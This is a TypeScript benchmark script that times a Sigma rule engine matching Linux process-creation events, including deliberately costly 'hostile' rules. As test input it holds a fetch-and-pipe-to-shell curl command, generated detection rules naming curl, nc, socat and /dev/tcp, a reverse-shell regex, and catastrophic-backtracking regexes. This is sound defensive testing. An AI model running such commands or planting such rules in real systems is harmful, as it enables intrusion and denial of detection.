/** Cost of matching Sigma rules against events: the match stage alone. See README.md. */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { loadavg } from 'node:os';
import { join, resolve } from 'node:path';
import { cpuUsage, env } from 'node:process';
import { parseArgs } from 'node:util';

import { jsonEvent, loadRules } from '@tidewaiter/sigma';
import type { RuleFile, SigmaEvent } from '@tidewaiter/sigma';
import { parse, stringify } from 'yaml';

const { values: options } = parseArgs({ options: { rules: { type: 'string', default: '475,500,1000,3000' } } });
const shared = resolve(env['TIDEWAITER_SHARED'] ?? '../shared', 'detection');
const hasShared = existsSync(join(shared, 'sigma'));
const processes = [{ product: 'linux', category: 'process_creation' }];
const longCommandLength = 8_192;
const rounds = 5;
const letters = 'abcdefghijklmnopqrstuvwxyz';

const own = hasShared ? sigmaHq() : generated(475);
const events = hasShared ? storylineEvents() : generatedEvents();
console.log(
  `${own.length} rules of ${hasShared ? 'SigmaHQ' : 'our own'}, ${events.length} events of processes, load ${loadavg()[0]!.toFixed(1)}; CPU time, best of ${rounds}\n`,
);
console.log('rules  engine         events/s  matches an event  first event ms');
for (const count of options.rules.split(',').map(Number))
  for (const interpreted of [false, true]) throughput(count, interpreted);
loading(3_000);
worstRules();

function throughput(count: number, interpreted: boolean): void {
  const { rules } = loadRules(salted(own, count), { interpreted });
  const first = milliseconds(() => rules.match(events[0]!));
  const passes = Math.ceil(60_000 / events.length);
  let matched = 0;
  const run = () => {
    for (let pass = 0; pass < passes; pass += 1) for (const event of events) matched += rules.match(event).length;
  };
  run();
  const best = Math.min(...Array.from({ length: rounds }, () => milliseconds(run)));
  const rate = (passes * events.length * 1_000) / best;
  const share = matched / ((rounds + 1) * passes * events.length);
  console.log(
    `${String(count).padStart(5)}  ${(interpreted ? 'interpreted' : 'compiled').padEnd(11)} ${Math.round(rate).toLocaleString('en').padStart(11)}  ${share.toFixed(2).padStart(16)}  ${first.toFixed(0).padStart(14)}`,
  );
}

/**
 * Times a load of all rules, and a reload as in the detector: with one file changed, and the first
 * event after it.
 */
function loading(count: number): void {
  const files = salted(own, count);
  const reads = Array.from({ length: rounds }, () => milliseconds(() => loadRules(files)));
  const previous = loadRules(files);
  const [{ path, text }, ...others] = files as [RuleFile, ...RuleFile[]];
  const changed = [{ path, text: `${text}# changed\n` }, ...others];
  const reloads = Array.from({ length: rounds }, () =>
    milliseconds(() => loadRules(changed, { previous }).rules.match(events[0]!)),
  );
  const best = (times: number[]) => Math.min(...times).toFixed(0);
  console.log(
    `\n${count} rules: read in ${best(reads)} ms; read again with one changed, and an event evaluated, in ${best(reloads)} ms`,
  );
}

/** Each rule alone, against a command line made of the rule's own words. */
function worstRules(): void {
  const rules = [...own.map((file) => ({ file, texts: commandLines(file.text) })), ...hostile()];
  const costs = rules.map(({ file, texts }) => ({
    path: file.path,
    micros: Math.max(...texts.map((text) => costOf(file, text))),
  }));
  console.log(`\nthe most expensive rules on a command line of ${longCommandLength} characters, us an event:`);
  for (const { path, micros } of costs.toSorted((a, b) => b.micros - a.micros).slice(0, 16))
    console.log(`${micros.toFixed(1).padStart(8)}  ${path.slice(0, 120)}`);
}

function costOf(file: RuleFile, text: string): number {
  const { rules } = loadRules([file]);
  if (rules.rules.length === 0) throw new Error(`${file.path} is refused`);
  const event = jsonEvent({ Image: '/bin/sh', CommandLine: text }, [logsourceOf(file)]);
  const passes = 20;
  const run = () => {
    for (let pass = 0; pass < passes; pass += 1) rules.match(event);
  };
  run();
  return (Math.min(...[1, 2, 3].map(() => milliseconds(run))) * 1_000) / passes;
}

function commandLines(rule: string): string[] {
  const words = [...rule.matchAll(/- '?([^'\n]{2,60})'?$/gm)].map(([, word = '']) => word).join(' ');
  return [words || 'x', 'curl -s http://198.51.100.7/a | sh -c x; ', 'a', '../ %00 -e "$1$ '].map(long);
}

function long(text: string): string {
  return text.repeat(Math.ceil(longCommandLength / text.length)).slice(0, longCommandLength);
}

function threeLetters(): string[] {
  const all = Array.from(letters);
  return all.flatMap((a) => all.flatMap((b) => all.map((c) => a + b + c)));
}

/** A text with most sequences of three letters. */
function cyclic(): string {
  let [text, seed] = ['', 1];
  for (; text.length < longCommandLength; seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31)
    text += letters[(seed >> 16) % letters.length];
  return text;
}

/** Rules and events that an attacker would craft to slow the detection down. */
function hostile(): { file: RuleFile; texts: string[] }[] {
  const words = Array.from({ length: 5_000 }, (_, index) => `w${index.toString(36)} `);
  const rule = (name: string, detection: object, ...texts: string[]) => ({
    file: {
      path: `hostile: ${name}`,
      text: stringify({ title: name, logsource: { product: 'linux' }, detection: { s: detection, condition: 's' } }),
    },
    texts: texts.map(long),
  });
  return [
    rule('5,000 values, all there', { 'CommandLine|contains|all': words.slice(0, 1_600) }, words.join('')),
    rule('5,000 values, none there', { 'CommandLine|contains': words }, 'x '),
    rule('5,000 whole values', { CommandLine: words }, 'w1 '),
    rule(
      'a in a in a',
      { 'CommandLine|contains': Array.from({ length: 1_000 }, (_, index) => `${'a'.repeat(index + 1)}b`) },
      'a',
    ),
    rule('cased', { 'CommandLine|contains|cased': words }, 'x '),
    rule('stars', { CommandLine: `${'a*'.repeat(60)}b` }, 'a'),
    rule(
      '40 patterns',
      { CommandLine: Array.from({ length: 40 }, (_, index) => `*a*b${index}*c*`) },
      'a b1 b2 b3 b4 b5 b6 b7 b8 b9 ',
      `${words.join('')}ab`,
    ),
    rule(
      'nested in each other',
      { CommandLine: Array.from({ length: 8 }, (_, index) => `*${'a'.repeat(index + 1)}*${'a'.repeat(8 - index)}*b*`) },
      'a',
    ),
    rule('stars and keywords', ['*a*b*a*b*', '*ab*ba*x*'], 'a', 'ab', `${'ab'.repeat(300)}c`),
    rule(
      '250 values with stars',
      { CommandLine: words.slice(0, 250).map((word) => `*${word}*${word}x*`) },
      words.join(''),
      words.toReversed().join(''),
    ),
    rule('dashes', { 'CommandLine|windash|contains': [' -a -b -c', ' -x /y'] }, ' -a –b', ' -a -b –c /x'),
    rule('base64', { 'CommandLine|base64offset|contains': words.slice(0, 1_000) }, 'dwB3AHcA', 'd3cxIHcyIHcz'),
    rule(
      '10,000 networks',
      { 'CommandLine|cidr': Array.from({ length: 10_000 }, (_, index) => `10.${index >> 8}.${index & 255}.0/24`) },
      '10.1.2.3',
    ),
    rule('64 comparisons', { 'CommandLine|gt': Array.from({ length: 64 }, (_, index) => index) }, '1'),
    rule('another field', { 'CommandLine|fieldref|contains': 'CommandLine' }, 'a'),
    rule('every three letters', { 'CommandLine|contains|all': threeLetters().slice(0, 5_000) }, cyclic()),
    rule('any three letters', { 'CommandLine|contains': threeLetters().slice(0, 10_000) }, cyclic()),
    rule(
      'everything at once',
      {
        'CommandLine|re': ['(a+)+$', '.*a.*b.*c.*d', '(x+x+)+y', '[a-z]+[0-9]+[a-z]+', 'a[ab]{8}c'],
        'CommandLine|cased': ['*A*a*B*', '*a*b*c*d*'],
        'CommandLine|contains|all': ['a', 'b', 'c'],
      },
      'ab c1 ',
      'abc',
    ),
    rule('question marks', { 'CommandLine|contains': 'a?a?a?a?a?a?a?a?b' }, 'a', 'aaaaaaaaaaaaaaaaac'),
    rule('a page of question marks', { 'CommandLine|contains': `${'a?'.repeat(60)}b` }, 'a', `${'a'.repeat(300)}b`),
    ...[
      '(a+)+$',
      '[a-z]+[0-9]+[a-z]+',
      '(x+x+)+y',

      '(a|b)*a(a|b){8}c',
      '.*a.*b.*c.*d',
      '(?i)mi.*ner',
      '(.){200,}',
      '(a|b)*a(a|b){14}c',
      '(^|[^a])(ab|ba|aa|bb)+(c|$)',
      String.raw`\b(a|b)+\b.*\bc\b`,
      words.slice(0, 120).join('|'),
    ].map((source) =>
      rule(`re ${source}`, { 'CommandLine|re': source }, 'a', 'x', 'ab', 'aab c1 miner ', 'abbabaaabbbabac'),
    ),
    rule(
      '20 expressions',
      {
        'CommandLine|re': words
          .slice(0, 20)
          .map((word) => `${word.trim()} .*-c.*socket.*(subprocess|popen|exec|/bin/sh|system)`),
      },
      `${words.slice(0, 20).join('')} -c socket `,
    ),
  ];
}

function milliseconds(run: () => unknown): number {
  const before = cpuUsage();
  run();
  const { user, system } = cpuUsage(before);
  return (user + system) / 1_000;
}

function sigmaHq(): RuleFile[] {
  return readdirSync(join(shared, 'sigma'), { recursive: true, encoding: 'utf8' })
    .filter((path) => path.endsWith('.yml'))
    .map((path) => ({ path, text: readFileSync(join(shared, 'sigma', path), 'utf8') }));
}

/** Extends the rules to `count`: copies with other words in them. */
function salted(rules: readonly RuleFile[], count: number): RuleFile[] {
  return Array.from({ length: count }, (_, index) => {
    const { path, text } = rules[index % rules.length]!;
    const round = Math.floor(index / rules.length);
    if (round === 0) return { path, text };
    const rule = parse(text) as Record<string, unknown>;
    const detection = rule['detection'] as Record<string, unknown>;
    const salt = (value: unknown, key: string): unknown => {
      if (key === 'condition' || key.includes('|re') || key.includes('|cidr') || key.includes('|fieldref'))
        return value;
      if (typeof value === 'string')
        return value === '' ? value : value.endsWith('*') ? `zq${round}${value}` : `${value}zq${round}`;
      if (Array.isArray(value)) return value.map((each) => salt(each, key));
      if (typeof value === 'object' && value !== null)
        return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, salt(each, name)]));
      return typeof value === 'number' ? value + round * 100_000 : value;
    };
    return {
      path: `${round}/${path}`,
      text: stringify({ ...rule, id: `${String(rule['id'])}-${round}`, detection: salt(detection, '') }),
    };
  });
}

function logsourceOf({ text }: RuleFile): object {
  return (parse(text) as { logsource: object }).logsource;
}

function storylineEvents(): SigmaEvent[] {
  return readdirSync(join(shared, 'storylines'))
    .filter((file) => file.endsWith('.jsonl'))
    .flatMap((file) =>
      readFileSync(join(shared, 'storylines', file), 'utf8')
        .trim()
        .split('\n'),
    )
    .flatMap((line) => {
      const { event } = JSON.parse(line) as { event: { process_exec?: { process: Tetragon; parent?: Tetragon } } };
      return event.process_exec ? [processEvent(event.process_exec)] : [];
    });
}

interface Tetragon {
  binary: string;
  arguments?: string;
  cwd: string;
  uid: number;
  pid: number;
}

function processEvent({ process, parent }: { process: Tetragon; parent?: Tetragon }): SigmaEvent {
  const fields = new Map<string, unknown>([
    ['Image', process.binary],
    ['CommandLine', `${process.binary} ${process.arguments ?? ''}`.trim()],
    ['ParentImage', parent?.binary],
    ['ParentCommandLine', parent && `${parent.binary} ${parent.arguments ?? ''}`.trim()],
    ['CurrentDirectory', process.cwd],
    ['User', process.uid === 0 ? 'root' : String(process.uid)],
    ['ProcessId', process.pid],
  ]);
  const scalars = [...fields.values()].filter((value) => value !== undefined) as (string | number)[];
  return { logsources: processes, field: (name) => fields.get(name), scalars: () => scalars };
}

function generated(count: number): RuleFile[] {
  const tools = ['curl', 'wget', 'nc', 'socat', 'python3', 'perl', 'chmod', 'crontab'];
  return Array.from({ length: count }, (_, index) => ({
    path: `${index}.yml`,
    text: `title: r${index}
id: r${index}
logsource: { product: linux, category: process_creation }
detection:
  tool: { Image|endswith: /${tools[index % tools.length]} }
  words: { CommandLine|contains: ['--word-${index}', '/dev/tcp/${index}', 'http*x${index}.sh'] }
  condition: all of them
`,
  }));
}

function generatedEvents(): SigmaEvent[] {
  return Array.from({ length: 400 }, (_, index) => {
    const process = {
      binary: '/usr/bin/curl',
      cwd: '/app',
      arguments: `http://10.0.0.${index % 250}/ --word-${index}`,
      uid: 0,
    };
    return processEvent({ process: { ...process, pid: index }, parent: { ...process, pid: 1 } });
  });
}
